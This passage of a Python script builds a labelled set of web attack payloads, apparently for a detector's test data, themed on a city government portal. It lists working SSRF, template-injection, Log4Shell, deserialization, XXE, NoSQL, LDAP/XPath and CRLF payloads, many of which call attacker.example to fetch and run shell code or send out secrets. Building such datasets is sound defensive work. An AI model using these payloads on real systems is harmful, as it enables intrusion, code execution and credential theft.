cover-url-imds+ip-hex
http://0xa9fea9fe/latest/meta-data/iam/
%%
cover-url-imds+ip-octal
http://0251.0376.0251.0376/latest/meta-data/
%%
import-url-localhost-admin
http://127.0.0.1:8080/admin/
%%
import-url-elasticsearch
http://localhost:9200/_cat/indices?v
%%
import-url-redis-short-ip
http://127.1:6379/
%%
feed-url-zero-ip
http://0.0.0.0:8000/internal/metrics
%%
feed-url-ipv6-loopback-couchdb
http://[::1]:5984/_all_dbs
%%
feed-url-ipv4-mapped-ipv6
http://[::ffff:127.0.0.1]/server-status
%%
webhook-consul+ip-decimal
http://2130706433:8500/v1/agent/self
%%
webhook-loopback+ip-octal
http://0177.0.0.1:8080/actuator/env
%%
tile-url-loopback+ip-hex-short
http://0x7f.1/admin/
%%
import-url-gopher-redis-cron
gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/spool/cron/crontabs%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASET%20x%20%22%5Cn*%20*%20*%20*%20*%20curl%20-s%20attacker.example/r%7Csh%5Cn%22%0D%0ASAVE%0D%0AQUIT%0D%0A
%%
webhook-gopher-smtp
gopher://127.0.0.1:25/_HELO%20fairview%0D%0AMAIL%20FROM%3A%3Cclerk%40fairview.gov%3E%0D%0ARCPT%20TO%3A%3Cinbox%40attacker.example%3E%0D%0ADATA%0D%0ASubject%3A%20test%0D%0A%0D%0Arelay%20open%0D%0A.%0D%0AQUIT%0D%0A
%%
import-url-dict-memcached
dict://127.0.0.1:11211/stats
%%
import-url-file-scheme
file:///etc/passwd
%%
cover-url-file-proc-environ
file:///proc/self/environ
%%
feed-url-open-redirect-chain
https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/
%%
import-url-userinfo-confusion
https://data.fairview.gov@203.0.113.9/feed.json
%%
import-url-suffix-allowlist-bypass
https://data.fairview.gov.attacker.example/311.csv
%%
import-url-fragment-confusion
http://169.254.169.254#@data.fairview.gov/
%%
import-url-backslash-confusion
http://127.0.0.1\@data.fairview.gov/
%%
feed-url-dns-rebinding
http://rebind.attacker.example:8080/latest/meta-data/
%%
webhook-k8s-api-secrets
https://kubernetes.default.svc/api/v1/namespaces/default/secrets
%%
webhook-kubelet-readonly
http://10.0.0.1:10255/pods
%%
import-url-internal-hostname
http://internal-admin.fairview.local/users/export.csv
%%
webhook-docker-api
http://localhost:2375/containers/json
%%
webhook-consul-kv
http://127.0.0.1:8500/v1/kv/?recurse
%%
agenda-pdf-iframe-imds
<iframe src="http://169.254.169.254/latest/meta-data/iam/security-credentials/" width="800" height="600"></iframe>
%%
agenda-pdf-img-internal-get
Site plan: <img src="http://127.0.0.1:8080/admin/users/delete?id=1">
%%
notice-pdf-object-file
<object data="file:///etc/passwd" type="text/plain" width="600" height="800"></object>
%%
import-url-loopback+urlenc-host
http://%31%32%37%2e%30%2e%30%2e%31:8080/admin
%%
cover-url-imds+ipv6-mapped-hex
http://[::ffff:a9fe:a9fe]/latest/meta-data/
%%
cover-url-imds+ip-mixed-dotted
http://169.254.43518/latest/meta-data/
%%
tile-url-zero-host
http://0:8080/internal/
%%
import-url-loopback+unicode-enclosed
http://①②⑦.⓪.⓪.①:8080/admin
%%
import-url-dns-to-loopback
http://127.0.0.1.attacker.example:6379/
%%
webhook-actuator-env
http://10.20.0.15:8080/actuator/env
%%
import-url-jar-scheme
jar:http://attacker.example/x.zip!/feed.xml
%%
import-url-netdoc-scheme
netdoc:///etc/passwd
%%
webhook-ecs-task-metadata
http://169.254.170.2/v2/metadata
%%
import-url-alibaba-metadata
http://100.100.100.200/latest/meta-data/ram/security-credentials/
%%
json-import-source-url
{"dataset_name": "311 requests 2024", "source_url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "format": "csv"}
%%
import-url-ipv6-full-mapped
http://[0:0:0:0:0:ffff:127.0.0.1]:8080/
%%
plain-loopback
http://127.0.0.1/
%%
plain-metadata
http://169.254.169.254/
%%
plain-localhost-ssh
http://localhost:22/
%%
plain-ipv6-loopback
http://[::1]/
""")

SS_CTX = ["import-url", "cover-url", "feed-url", "webhook", "tile-url"]
SS_HOSTS = [("loopback", "127.0.0.1"), ("localhost", "localhost"), ("imds", "169.254.169.254"),
            ("loopback+ip-decimal", "2130706433"), ("loopback+ipv6", "[::1]"), ("private-net", "10.0.{a}.{b}"),
            ("docker-bridge", "172.17.0.1")]
SS_TARGETS = [":6379/", ":9200/_nodes", ":8500/v1/catalog/services", ":2379/v2/keys/?recursive=true",
              ":15672/api/users", ":8080/manager/html", ":10250/pods", "/server-status"]


def gen_ssrf(rng):
    ctx = rng.choice(SS_CTX)
    hname, host = rng.choice(SS_HOSTS)
    host = host.format(a=rng.randint(0, 255), b=rng.randint(2, 254))
    if hname == "imds":
        path = rng.choice(["/latest/meta-data/iam/security-credentials/", "/latest/dynamic/instance-identity/document",
                           "/latest/meta-data/hostname"])
    else:
        path = rng.choice(SS_TARGETS)
    return "{}-{}".format(ctx, hname), "http://" + host + path


# ---------------------------------------------------------------------------
# Code injection: notice/letter templates (SSTI), rule fields (expression
# languages), saved-search blobs (deserialization), e-filing XML (XXE),
# Log4Shell-style lookups in logged fields, JSON merges (prototype pollution),
# CSV/spreadsheet exports (formula injection), formula calculators (eval).
# ---------------------------------------------------------------------------
CODE = block(r"""
notice-jinja2-globals-rce
Dear {{ applicant_name }}, your hearing is on {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}.
%%
notice-jinja2-cycler-rce
{{ cycler.__init__.__globals__.os.popen('curl http://attacker.example/$(hostname)').read() }}
%%
notice-jinja2-config-leak
Polling place: {{ config.items() }}
%%
notice-jinja2-file-read
{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}
%%
notice-jinja2-attr-filter+hex-escape
{{ ()|attr('\x5f\x5fclass\x5f\x5f')|attr('\x5f\x5fbase\x5f\x5f')|attr('\x5f\x5fsubclasses\x5f\x5f')() }}
%%
notice-jinja2-subclasses-loop
{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}
%%
letter-twig-filter-system
{{ ['id']|filter('system') }}
%%
letter-twig-undefined-filter-callback
{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("curl -s attacker.example/t|sh")}}
%%
letter-freemarker-execute
<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
%%
letter-velocity-runtime
#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()
%%
notice-erb-backtick
Hearing moved to <%= `id` %>
%%
notice-erb-file-read
<%= File.read('/etc/passwd') %>
%%
view-thymeleaf-preprocess
__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x
%%
letter-smarty-php-func
{system('cat /etc/passwd')}
%%
notice-mako-python-block
<% import os %>${os.popen('id').read()}
%%
notice-pug-interpolation-rce
#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('curl attacker.example/p|sh')}()}
%%
notice-tornado-import
{% import os %}{{ os.popen("id").read() }}
%%
letter-razor-process-start
@System.Diagnostics.Process.Start("cmd.exe","/c whoami > C:\\inetpub\\wwwroot\\w.txt")
%%
rule-spel-runtime
#{T(java.lang.Runtime).getRuntime().exec('curl http://attacker.example/s')}
%%
rule-spel-getenv
${T(java.lang.System).getenv()}
%%
search-ognl-runtime
%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}
%%
form-el-session-attribute
${pageContext.request.getSession().setAttribute("role", "admin")}
%%
rule-mvel-runtime
Runtime.getRuntime().exec("curl -s attacker.example/mv")
%%
comment-log4shell-ldap
Great meeting! ${jndi:ldap://attacker.example:1389/a}
%%
comment-log4shell+case-lookup
${${lower:j}ndi:${lower:l}dap://198.51.100.77/x}
%%
caption-log4shell+default-value-lookup
${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/o}
%%
sr-desc-log4shell-env-exfil
Pothole ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.l4j.attacker.example}
%%
useragent-log4shell-sys-lookup
${jndi:ldap://${sys:java.version}.attacker.example/v}
%%
sr-desc-log4shell+urlenc
%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D
%%
json-log4shell+unicode-escape
{"description": "\u0024{jndi:ldap://attacker.example/u}"}
%%
saved-search-pickle-protocol0
cos
system
(S'curl http://attacker.example/p|sh'
tR.
%%
bulk-import-pyyaml-apply
!!python/object/apply:os.system ["curl http://attacker.example/y | sh"]
%%
export-job-php-object
O:12:"ExportPdfJob":2:{s:4:"file";s:11:"/etc/passwd";s:3:"cmd";s:2:"id";}
%%
attachment-phar-wrapper
phar:///var/www/uploads/IMG_2041.jpg/x
%%
json-jackson-default-typing
["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://attacker.example:1389/x", "autoCommit": true}]
%%
json-fastjson-autotype
{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://attacker.example:1099/x","autoCommit":true}
%%
json-dotnet-typenamehandling
{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c whoami"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
%%
cookie-node-serialize-iife
{"prefs":"_$$ND_FUNC$$_function(){require('child_process').exec('curl attacker.example/n|sh')}()"}
%%
efiling-xml-xxe-file
<?xml version="1.0"?><!DOCTYPE foia [<!ENTITY x SYSTEM "file:///etc/passwd">]><request><description>&x;</description></request>
%%
efiling-xml-xxe-oob-param
<?xml version="1.0"?>
<!DOCTYPE filing [<!ENTITY % d SYSTEM "https://attacker.example/x.dtd"> %d;]>
<filing><case>24-CR-000871</case></filing>
%%
efiling-xml-xinclude
<caption xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></caption>
%%
sr-photo-svg-xxe
<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///proc/self/environ">]><svg xmlns="http://www.w3.org/2000/svg"><text y="20">&e;</text></svg>
%%
efiling-xml-entity-expansion
<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]><r>&f;</r>
%%
benefits-soap-xxe
<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY h SYSTEM "file:///etc/hosts">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><checkEligibility><caseNo>&h;</caseNo></checkEligibility></soap:Body></soap:Envelope>
%%
json-proto-pollution
{"household": {"size": 4, "__proto__": {"isAdmin": true}}}
%%
json-constructor-prototype
{"filters": {"constructor": {"prototype": {"role": "caseworker"}}}}
%%
query-proto-ejs-gadget
__proto__[outputFunctionName]=_x;process.mainModule.require('child_process').execSync('curl attacker.example/e|sh');//
%%
query-proto-bracket
filters[__proto__][approved]=true
%%
export-csv-hyperlink-exfil
=HYPERLINK("https://attacker.example/c?d="&A2&B2, "View staff report")
%%
export-csv-dde-cmd
=cmd|' /C powershell -nop -w hidden -c iwr attacker.example/a.ps1|iex'!A1
%%
export-csv-at-sum-dde
@SUM(1+1)*cmd|' /C notepad'!A0
%%
export-csv-importxml
+IMPORTXML(CONCAT("https://attacker.example/x?", A1:C3), "//a")
%%
export-csv-minus-dde
-2+3+cmd|' /C calc'!A0
%%
export-csv-webservice
=WEBSERVICE("https://attacker.example/q?"&ENCODEURL(C2))
%%
export-csv-image-beacon
=IMAGE("https://attacker.example/pixel.png?"&A2)
%%
calculator-python-eval
__import__('os').system('curl -s attacker.example/ev|sh')
%%
calculator-python-eval-subclasses
().__class__.__base__.__subclasses__()
%%
filter-node-eval-child-process
require('child_process').execSync('cat /etc/passwd').toString()
%%
filter-node-eval-fs
process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')
%%
notice-ssi-exec
<!--#exec cmd="id" -->
%%
notice-esi-include
<esi:include src="http://attacker.example/esi"/>
%%
comment-commons-text-script-lookup
${script:javascript:java.lang.Runtime.getRuntime().exec('id')}
%%
comment-commons-text-url-lookup
${url:UTF-8:http://attacker.example/t}
%%
notice-jinja2-multiline
Aviso: El lugar de votación se trasladó.
{% set g = namespace.__init__.__globals__ %}
{{ g.os.popen('id').read() }}
%%
notice-jinja2-lipsum+urlenc
%7B%7B%20lipsum.__globals__.os.popen('id').read()%20%7D%7D
%%
plain-jinja2-rce
{{lipsum.__globals__['os'].popen('id').read()}}
%%
plain-log4shell
${jndi:ldap://attacker.example/a}
%%
plain-csv-formula
=1+1+cmd|' /C calc'!A0
%%
plain-el-runtime
${T(java.lang.Runtime).getRuntime().exec('id')}
%%
plain-xxe
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
%%
plain-proto-pollution
{"__proto__": {"polluted": true}}
%%
plain-erb-system
<%= system('id') %>
""")

CD_PROTOS = ["ldap", "ldaps", "rmi", "dns", "iiop"]
CD_HOSTS = ["attacker.example", "l4j.attacker.example", "198.51.100.{n}", "203.0.113.{n}"]
CD_FIELDS = [("comment", "Re: Item {n} — "), ("sr-desc", "Pothole on Mill St "), ("catalog", "tolkien "),
             ("caption", "DOE v. CITY "), ("useragent", "")]
CD_JINJA = ["cycler.__init__.__globals__.os.popen('{c}').read()",
            "joiner.__init__.__globals__.os.popen('{c}').read()",
            "lipsum.__globals__['os'].popen('{c}').read()"]
CD_CMDS = ["id", "uname -a", "curl -s attacker.example/{n}|sh", "cat /etc/passwd"]


def gen_code(rng):
    n = rng.randint(2, 250)
    if rng.random() < 0.6:
        ctx, pre = rng.choice(CD_FIELDS)
        proto = rng.choice(CD_PROTOS)
        host = rng.choice(CD_HOSTS).format(n=n)
        return "{}-log4shell-{}".format(ctx, proto), "{}${{jndi:{}://{}/{}}}".format(
            pre.format(n=rng.randint(1, 20)), proto, host, rng.choice(["a", "o", "x", "cb", "z9"]))
    expr = rng.choice(CD_JINJA).format(c=rng.choice(CD_CMDS).format(n=n))
    return "notice-jinja2-rce", "Estimado/a {{ name }}: {{ " + expr + " }}"


# ---------------------------------------------------------------------------
# NoSQL (MongoDB-style operator injection, $where JS, CouchDB Mango).
# ---------------------------------------------------------------------------
NOSQLI = block(r"""
login-json-ne
{"username": "clerk", "password": {"$ne": null}}
%%
benefits-case-gt-empty
{"case_no": {"$gt": ""}, "dob": {"$gt": ""}}
%%
login-form-bracket-ne
username[$ne]=x&password[$ne]=x
%%
patron-pin-regex-blind
{"card": "29061000123456", "pin": {"$regex": "^1"}}
%%
docket-where-sleep
{"$where": "sleep(5000) || true"}
%%
docket-where-sealed
{"$where": "this.sealed == true || this.docket == '24-0117-EV'"}
%%
docket-where-js-breakout
24-0117-EV'; return true; var x='
%%
docket-where-js-or
24-CR-000871' || '1'=='1
%%
staff-search-or-exists
{"$or": [{"role": "admin"}, {"role": {"$exists": true}}]}
%%
report-pipeline-lookup
[{"$lookup": {"from": "staff_users", "localField": "ward", "foreignField": "ward", "as": "leak"}}]
%%
docket-expr-function-sleep
{"docket": "24-0117-EV", "$expr": {"$function": {"body": "function() { sleep(4000); return true; }", "args": [], "lang": "js"}}}
%%
opendata-filter-nin
filter[ward][$nin][]=0
%%
precinct-query-regex-options
precinct[$regex]=.*&precinct[$options]=s
%%
patron-pin-in-list
{"card": "29061000123456", "pin": {"$in": ["0000", "1234", "1111", "2580", "1990"]}}
%%
couch-mango-selector
{"selector": {"_id": {"$gt": null}}, "fields": ["ssn_last4", "dob", "income"]}
%%
login-json-regex-admin
{"username": {"$regex": "^adm"}, "password": {"$gt": ""}}
%%
login-form-bracket-ne+urlenc
username%5B%24ne%5D=x&password%5B%24ne%5D=x
%%
patron-pin-ne+unicode-escape
{"card": "29061000123456", "pin": {"\u0024ne": "0000"}}
%%
benefits-where-function-blind
{"$where": "function() { return this.ssn_last4.match(/^1/) != null; }"}
%%
reset-token-ne
{"email": "clerk@fairview.gov", "reset_token": {"$ne": "x"}, "new_password": "placeholder-Passw0rd"}
%%
plain-ne-null
{"$ne": null}
%%
plain-bracket-ne
[$ne]=1
%%
plain-gt-empty
{"$gt": ""}
""")

NQ_USERS = ["clerk", "records.officer", "caseworker7", "admin", "librarian"]
NQ_OPS = [("ne", '{{"$ne": "{v}"}}'), ("gt", '{{"$gt": "{v}"}}'), ("regex", '{{"$regex": "^{v}"}}'),
          ("nin", '{{"$nin": ["{v}"]}}')]


def gen_nosqli(rng):
    oname, op = rng.choice(NQ_OPS)
    v = rng.choice(["", "a", "x", "0"]) if oname != "regex" else rng.choice(["a", "1", "P", ""])
    return "login-json-" + oname, '{{"username": "{}", "password": {}}}'.format(rng.choice(NQ_USERS), op.format(v=v))


# ---------------------------------------------------------------------------
# CRLF: log forging (311/FOIA text written to line logs), header injection
# (redirect targets, language cookie, download filename), mail headers
# (contact-your-councilmember form).  Escaped Python strings on purpose: many
# need real CR / LF / ESC characters.
# ---------------------------------------------------------------------------
CRLF_LITERALS = [
    ("sr-desc-log-forge-lf",
     "Pothole fixed, thank you\n2024-03-12T10:14:02Z INFO auth login_success user=admin ip=10.0.0.5 role=superuser"),
    ("sr-desc-log-forge-crlf",
     "Streetlight still out\r\n2024-03-12 10:15:40,118 WARN audit record_deleted sr=SR-2024-118830 by=clerk.jones"),
    ("redirect-next-set-cookie+urlenc", "/dockets?lang=en%0d%0aSet-Cookie:%20session=attacker-fixed-session"),
    ("redirect-next-location+urlenc", "/notices%0d%0aLocation:%20https://attacker.example/"),
    ("lang-response-splitting+urlenc",
     "es%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a"
     "<script>alert(document.domain)</script>"),
    ("contact-subject-bcc", "Question about Item 9\r\nBcc: everyone@list.attacker.example"),
    ("contact-from-cc-body",
     "resident@mail.attacker.example\r\nCc: press@attacker.example\r\n\r\nOFFICIAL NOTICE: your polling place has "
     "changed. Confirm at https://attacker.example/vote"),
    ("contact-body-smtp-smuggling",
     "Thanks for your help.\r\n.\r\nMAIL FROM:<mayor@fairview.gov>\r\nRCPT TO:<list@attacker.example>\r\nDATA\r\n"
     "Subject: Official notice\r\n\r\nYour benefits case was closed.\r\n."),
    ("download-filename-header-split+urlenc",
     "minutes.pdf%22%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(document.domain)</script>"),
    ("redirect-next+utf8-truncation", "/home%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
    ("json-header-value+unicode-escape", '{"display_name": "Clerk\\u000d\\u000aX-Forwarded-User: admin"}'),
    ("lang-header+double-urlenc", "en%250d%250aSet-Cookie:%2520role=admin"),
    ("lang-header-lf-only+urlenc", "fr%0aSet-Cookie:%20role=admin"),
    ("foia-log-ansi-escape",
     "Records request re: Harbor Rd\u001b[1A\u001b[2K2024-03-12 INFO request PRR-24-0311 status=fulfilled"),
    ("sr-desc-json-log-forge", 'x","level":"INFO","user":"admin","event":"role_granted","target":"guest'),
    ("foia-multiline-audit-forge",
     "Please send the 2023 salary data.\n[2024-03-12 09:00:01] AUDIT user=records.officer action=APPROVE_RELEASE "
     "request=PRR-24-0412 exemption=none\n[2024-03-12 09:00:02] AUDIT user=records.officer action=WAIVE_FEES "
     "request=PRR-24-0412"),
    ("redirect-login-body-inject+urlenc",
     "/account%0d%0a%0d%0a<html><body>Session expired. <a href=https://attacker.example/login>Sign in again</a>"
     "</body></html>"),
    ("comment-syslog-forge",
     "Support the Quiet Zone.\n<13>Mar 12 10:14:02 fairview-web sudo: clerk : TTY=pts/0 ; PWD=/home/clerk ; "
     "USER=root ; COMMAND=/bin/bash"),
    ("contact-to-header-injection", "council@fairview.gov\nBcc: a@attacker.example,b@attacker.example"),
    ("cookie-lang-cr-only", "en\rSet-Cookie: session=attacker-fixed-session"),
    ("download-filename-crlf-raw",
     'agenda_2024-03-12.pdf"\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>'),
    ("webhook-header-value-crlf", "Bearer placeholder-token\r\nX-Original-URL: /admin/users"),
    ("sr-desc-log-forge+urlenc", "Pothole%0a2024-03-12T10:14:02Z%20INFO%20auth%20login_success%20user=admin"),
    ("redirect-cache-poison+urlenc",
     "/polling%0d%0aCache-Control:%20public,%20max-age=31536000%0d%0a%0d%0a<h1>All polling places closed today</h1>"),
    ("contact-subject-bcc+urlenc", "Item%209%20question%0d%0aBcc:%20list@attacker.example"),
    ("plain-crlf-set-cookie+urlenc", "%0d%0aSet-Cookie:%20session=attacker"),
    ("plain-crlf-header", "\r\nX-Injected: 1"),
    ("plain-log-forge", "\nINFO login_success user=admin"),
    ("plain-crlf-location+urlenc", "%0d%0aLocation:%20http://attacker.example/"),
]

CR_PARAMS = [("redirect-next", "/dockets/{n}"), ("lang", "vi"), ("download-filename", "packet_{n}.pdf"),
             ("redirect-next", "/notices?page={n}")]
CR_BREAKS = [("+urlenc", "%0d%0a"), ("+urlenc", "%0D%0A"), ("+double-urlenc", "%250d%250a"), ("", "\r\n")]
CR_HEADERS = ["Set-Cookie: role=admin", "Location: https://attacker.example/{n}", "Refresh: 0;url=https://attacker.example/",
              "Access-Control-Allow-Origin: https://attacker.example"]


def gen_crlf(rng):
    ctx, pre = rng.choice(CR_PARAMS)
    enc, brk = rng.choice(CR_BREAKS)
    hdr = rng.choice(CR_HEADERS).format(n=rng.randint(1, 99))
    if enc:
        hdr = hdr.replace(" ", "%20" if enc == "+urlenc" else "%2520")
    return "{}-header-injection{}".format(ctx, enc), pre.format(n=rng.randint(100, 9999)) + brk + hdr


# ---------------------------------------------------------------------------
# LDAP (staff directory search / portal login filters) and XPath (XML
# catalogue and docket stores).
# ---------------------------------------------------------------------------
LDAP_XPATH = block(r"""
staff-dir-ldap-or-all
*)(|(objectClass=*)
%%
staff-dir-ldap-password-blind
*)(userPassword=a*
%%
login-ldap-absolute-true
admin)(&)
%%
login-ldap-wildcard-close
*)(uid=*))(|(uid=*
%%
login-ldap-or-bypass
admin)(|(uid=*
%%
login-ldap-group-membership
clerk)(|(memberOf=cn=Domain Admins,cn=Users,dc=fairview,dc=gov)
%%
staff-dir-ldap-attr-disclosure
Okafor*)(telephoneNumber=*
%%
staff-dir-ldap-mail-filter
*)(mail=*@fairview.gov)(|(cn=*
%%
staff-dir-ldap-or-all+urlenc
%2a%29%28%7c%28objectClass%3d%2a
%%
staff-dir-ldap-description-blind
*)(description=*ssn*
%%
login-xpath-tautology
' or '1'='1
%%
catalog-xpath-union
kafka'] | //patron/pin | //book[title='x
%%
catalog-xpath-count-probe
x' or count(//staff)>0 or 'a'='b
%%
catalog-xpath-substring-blind
Dickinson' and substring(//patron[1]/pin,1,1)='1' and '1'='1
%%
login-xpath-dq-string-length
" or string-length(//user[position()=1]/password)=8 or "
%%
docket-xpath-contains-paren
') or ('1'='1
%%
docket-xpath2-doc-exfil
x' or doc(concat('http://attacker.example/?p=', //user[1]/password)) or 'a'='b
%%
precinct-xpath-numeric
1 or 1=1
%%
catalog-xpath-dump-all
'] | //* | //*['
%%
docket-xpath-root-name
x' or name(/*[1])='dockets' or 'a'='b
%%
plain-xpath-or
' or 1=1 or '
%%
plain-ldap-wildcard
*)(cn=*
%%
plain-ldap-absolute-true
*)(&)
""")

LD_NAMES = ["Okafor", "Nguyen", "Castillo", "Ruiz", "Kim", "Dubois"]
LD_SHAPES = [("staff-dir-ldap-attr-disclosure", "{n}*)({a}=*"), ("login-ldap-or-bypass", "{n})(|({a}=*")]
LD_ATTRS = ["homePhone", "employeeNumber", "mobile", "userPassword", "pager"]


def gen_ldap_xpath(rng):
    cls, shape = rng.choice(LD_SHAPES)
    return cls, shape.format(n=rng.choice(LD_NAMES).lower(), a=rng.choice(LD_ATTRS))


# ---------------------------------------------------------------------------
# Hand-written payloads that the generator base64-encodes (the target app
# decodes them: saved-search blobs, data: URLs, atob(), `base64 -d`).
# ---------------------------------------------------------------------------
ENCODED = [
    ("code", "saved-search-pickle+base64", "cos\nsystem\n(S'curl http://attacker.example/q|sh'\ntR."),
    ("xss", "sr-img-eval-atob+base64",
     "<img src=x onerror=eval(atob('{}'))>", "fetch('//attacker.example/?'+document.cookie)"),
    ("xss", "sr-desc-iframe-data-uri+base64",
     '<iframe src="data:text/html;base64,{}"></iframe>', "<script>alert(document.domain)</script>"),
    ("cmdi", "photo-filename-base64-pipe",
     "IMG_2042.jpg;echo {}|base64 -d|sh", "curl http://attacker.example/x|sh"),
]

LITERALS = [("sqli", SQLI), ("xss", XSS), ("cmdi", CMDI), ("traversal", TRAVERSAL), ("ssrf", SSRF),
            ("code", CODE), ("nosqli", NOSQLI), ("crlf", CRLF_LITERALS), ("ldap-xpath", LDAP_XPATH)]
TEMPLATES = {"sqli": (gen_sqli, 3), "xss": (gen_xss, 8), "cmdi": (gen_cmdi, 8), "traversal": (gen_traversal, 8),
             "ssrf": (gen_ssrf, 3), "code": (gen_code, 6), "nosqli": (gen_nosqli, 2), "crlf": (gen_crlf, 4),
             "ldap-xpath": (gen_ldap_xpath, 2)}


def main():
    rng = random.Random(SEED)
    per_cat = {c: [] for c in CATEGORIES}
    n_lit = {c: 0 for c in CATEGORIES}
    seen = set()

    def add(cat, cls, value):
        if value in seen:
            return False
        seen.add(value)
        per_cat[cat].append((cls, value))
        return True

    for cat, entries in LITERALS:
        for cls, value in entries:
            if not add(cat, cls, value):
                raise SystemExit("duplicate literal {!r}".format(value[:60]))
            n_lit[cat] += 1
    for item in ENCODED:
        cat, cls = item[0], item[1]
        value = b64(item[2]) if len(item) == 3 else item[2].format(b64(item[3]))
        if not add(cat, cls, value):
            raise SystemExit("duplicate encoded literal")
        n_lit[cat] += 1
    for cat in CATEGORIES:
        gen, want = TEMPLATES[cat]
        made, tries = 0, 0
        while made < want:
            tries += 1
            if tries > 5000:
                raise SystemExit("template pool too small for " + cat)
            cls, value = gen(rng)
            if add(cat, cls, value):
                made += 1

    benign_path = Path(__file__).with_name("benign.jsonl")
    benign_values = set()
    if benign_path.exists():
        with open(benign_path, encoding="utf-8") as fh:
            for line in fh:
                benign_values.add(json.loads(line)["value"])

    out = []
    for cat in CATEGORIES:
        for cls, value in per_cat[cat]:
            assert isinstance(value, str) and value and len(value) <= 1800, (cls, value[:60])
            assert value not in benign_values, ("also in benign", value[:60])
            out.append({"id": "{}-{:05d}".format(PREFIX, len(out) + 1), "category": cat, "class": cls,
                        "label": "attack", "value": value})
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for obj in out:
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    total_lit = 0
    for cat in CATEGORIES:
        total_lit += n_lit[cat]
        print("{:12s} {:4d}  (literals {:3d})".format(cat, len(per_cat[cat]), n_lit[cat]))
    n_plain = sum(1 for o in out if o["class"].startswith("plain-"))
    n_enc = sum(1 for o in out if "+" in o["class"])
    print("{:12s} {:4d}  (literals {:3d}, {:.1%}); plain {} ; encoded {}".format(
        "TOTAL", len(out), total_lit, total_lit / len(out), n_plain, n_enc))


if __name__ == "__main__":
    main()
